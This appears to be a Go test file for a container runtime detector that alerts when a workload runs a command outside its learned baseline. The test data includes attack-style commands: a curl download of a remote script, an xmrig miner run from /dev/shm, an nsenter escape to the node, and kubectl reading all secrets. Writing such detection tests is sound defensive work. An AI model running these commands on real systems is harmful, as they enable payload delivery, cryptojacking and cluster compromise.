package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/baseline"
	"github.com/kubedelta/kubedelta/internal/event"
)

// wkProcBaseline: the api container has run its server, a health-check
// shell and wget for a day.
func wkProcBaseline(s *State) {
	for i := range 40 {
		t := wkT0.Add(time.Duration(i) * 30 * time.Minute)
		for _, k := range []baseline.ProcessKey{
			{Container: "api", Executable: "/usr/local/bin/api", ArgShape: argShape([]string{"--port=8080", "--config", "/etc/api/config.yaml"})},
			{Container: "api", Executable: "/bin/sh", ArgShape: argShape([]string{"-c", "wget -qO- http://127.0.0.1:8080/healthz"})},
			{Container: "api", Executable: "/usr/bin/wget", ArgShape: argShape([]string{"-qO-", "http://127.0.0.1:8080/healthz"})},
		} {
			s.Profiles.ObserveProcess("Deployment/shop/api", k, t)
		}
	}
}

func wkExec(exe string, args ...string) *event.Exec {
	return &event.Exec{Time: wkNow, Source: "tetragon", Node: "node-1", Namespace: "shop", Pod: "api-5d8f7c9b4-x2x9z",
		Container: "api", ContainerID: "containerd://4f1e9a", Image: "registry.example.com/shop/api:1.4.2",
		Workload: "Deployment/shop/api", PID: 4242, UID: 0, Cwd: "/", Executable: exe, Args: args, Parent: "/bin/sh"}
}

func TestNovelCommand(t *testing.T) {
	cases := []struct {
		name    string
		setup   func(*State)
		exec    *event.Exec
		sev     Severity // 0 with message "" = no alert
		message string
		mitre   string
	}{
		{name: "known binary and shape", exec: wkExec("/usr/local/bin/api", "--port=8080", "--config", "/etc/api/config.yaml")},
		{name: "known binary, new arguments", exec: wkExec("/usr/bin/wget", "-q", "http://10.0.0.9/x")},
		{name: "curl", sev: High, message: `Deployment/shop/api ran /usr/bin/curl in container "api", a binary it never ran in 2d of baseline: a downloader`,
			mitre: "T1105", exec: wkExec("/usr/bin/curl", "-sSL", "https://203.0.113.7/x.sh")},
		{name: "binary in /tmp", sev: High, message: "run from a temporary or hidden directory", exec: wkExec("/tmp/kworker", "-o", "x")},
		{name: "miner in /dev/shm", sev: Critical, message: "a cryptocurrency miner, run from memory or /dev/shm", mitre: "T1496",
			exec: wkExec("/dev/shm/xmrig", "-o", "pool.supportxmr.com:443")},
		{name: "nsenter", sev: Critical, message: "break out to the node", mitre: "T1611", exec: wkExec("/usr/bin/nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh")},
		{name: "package manager", sev: High, message: "package manager", exec: wkExec("/sbin/apk", "add", "nmap")},
		{name: "kubectl", sev: High, message: "cluster or container administration tool", mitre: "T1609", exec: wkExec("/tmp/.x/kubectl", "get", "secrets", "-A")},
		{name: "new shell", sev: Medium, message: "a shell", mitre: "T1059.004", exec: wkExec("/bin/bash", "-i")},
		{name: "other container of the pod", sev: Medium, message: `in container "sidecar"`,
			exec: func() *event.Exec { e := wkExec("/usr/local/bin/api"); e.Container = "sidecar"; return e }()},
		{name: "learning window", setup: func(s *State) { s.Config.LearnUntil = wkNow.Add(time.Minute) }, exec: wkExec("/usr/bin/curl")},
		{name: "process baseline warming up", setup: func(s *State) {
			s.Profiles.ObserveProcess("Deployment/shop/fresh", baseline.ProcessKey{Container: "c", Executable: "/app"}, wkNow.Add(-time.Minute))
		}, exec: func() *event.Exec {
			e := wkExec("/usr/bin/curl")
			e.Workload = "Deployment/shop/fresh"
			e.Container = "c"
			return e
		}()},
		{name: "workload without process baseline", setup: func(s *State) {
			for i := range 40 {
				s.Profiles.ObserveEdge(wkCache, wkDB, 5432, 6, 10, 1, wkT0.Add(time.Duration(i)*time.Hour), 24, 64)
			}
		}, exec: func() *event.Exec { e := wkExec("/usr/bin/curl"); e.Workload = "Deployment/shop/cache"; return e }()},
		{name: "unknown workload", exec: func() *event.Exec { e := wkExec("/usr/bin/curl"); e.Workload = ""; return e }()},
		{name: "sensor's own kind", sev: High, message: "ran /usr/bin/curl",
			exec: func() *event.Exec {
				e := wkExec("/usr/bin/curl")
				e.Workload, e.WorkloadKind = "api", "Deployment"
				return e
			}()},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := wkState()
			wkProcBaseline(s)
			if tc.setup != nil {
				tc.setup(s)
			}
			var k wkSink
			ProcessDetectors(ProcOptions{})[0].(ExecDetector).Exec(s, tc.exec, k.emit)
			if tc.message == "" {
				if len(k.alerts) != 0 {
					t.Fatalf("want no alert, got %s", wkDescribe(k.alerts))
				}
				return
			}
			a := wkOne(t, k.alerts, RuleExecNovelCommand)
			wkCheckAlert(t, a)
			if a.Severity != tc.sev || !strings.Contains(a.Message, tc.message) {
				t.Errorf("got %s %q, want %s and %q", a.Severity, a.Message, tc.sev, tc.message)
			}
			if tc.mitre != "" && a.MITRE[0] != tc.mitre {
				t.Errorf("MITRE %v, want %s first", a.MITRE, tc.mitre)
			}
			if a.Workload != "Deployment/shop/api" && tc.exec.Workload == "Deployment/shop/api" {
				t.Errorf("workload %q", a.Workload)
			}
		})
	}
}

// TestArgShape: the shapes the process baseline keys on (the brief's list:
// numbers, hex ids, UUIDs, IPs and paths under /tmp become placeholders,
// flags stay).
func TestArgShape(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{nil, ""},
		{[]string{"-c", "5", "10.0.0.1"}, "-c <n> <ip>"},
		{[]string{"--port=8080", "--verbose"}, "--port=<n> --verbose"},
		{[]string{"rm", "-rf", "/tmp/build-4821/out"}, "rm -rf <tmp>"},
		{[]string{"inspect", "4f1e9a7c0b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f"}, "inspect <id>"},
		{[]string{"--request-id", "123e4567-e89b-12d3-a456-426614174000"}, "--request-id <id>"},
		{[]string{"connect", "[2001:db8::1]:443"}, "connect [2001:db8::1]:443"},
		{[]string{"connect", "192.0.2.1:443"}, "connect <ip>"},
	} {
		if got := argShape(tc.args); got != tc.want {
			t.Errorf("argShape(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
	// Same kind of command, same shape: the baseline does not grow with
	// every invocation.
	a := argShape([]string{"-n", "3", "--host", "10.1.2.3", "/tmp/job-77/in"})
	b := argShape([]string{"-n", "12", "--host", "10.9.8.7", "/tmp/job-78/in"})
	if a != b {
		t.Errorf("%q != %q", a, b)
	}
}

func TestExecTextRedacts(t *testing.T) {
	e := wkExec("/usr/bin/mysql", "-u", "root", "-p", "hunter2", "--password=s3cret", "--token", "eyJhbGciOi", "-h", "db")
	got := procExecText(e)
	for _, secret := range []string{"hunter2", "s3cret", "eyJhbGciOi"} {
		if strings.Contains(got, secret) {
			t.Errorf("%q leaks %q", got, secret)
		}
	}
	if !strings.Contains(got, "-u root") || !strings.Contains(got, "--password=<redacted>") || !strings.Contains(got, "pid 4242") {
		t.Errorf("evidence %q", got)
	}
	long := wkExec("/bin/sh", "-c", strings.Repeat("x", 500))
	if got := procExecText(long); len(got) > 400 {
		t.Errorf("evidence not clipped: %d bytes", len(got))
	}
}

func TestNovelCommandAllocs(t *testing.T) {
	s := wkState()
	wkProcBaseline(s)
	d := ProcessDetectors(ProcOptions{})[0].(ExecDetector)
	emit := func(Alert) { t.Fatal("no alert expected") }
	e := wkExec("/usr/local/bin/api")
	if n := testing.AllocsPerRun(100, func() { d.Exec(s, e, emit) }); n > 0 {
		t.Errorf("known process allocates %v times", n)
	}
}
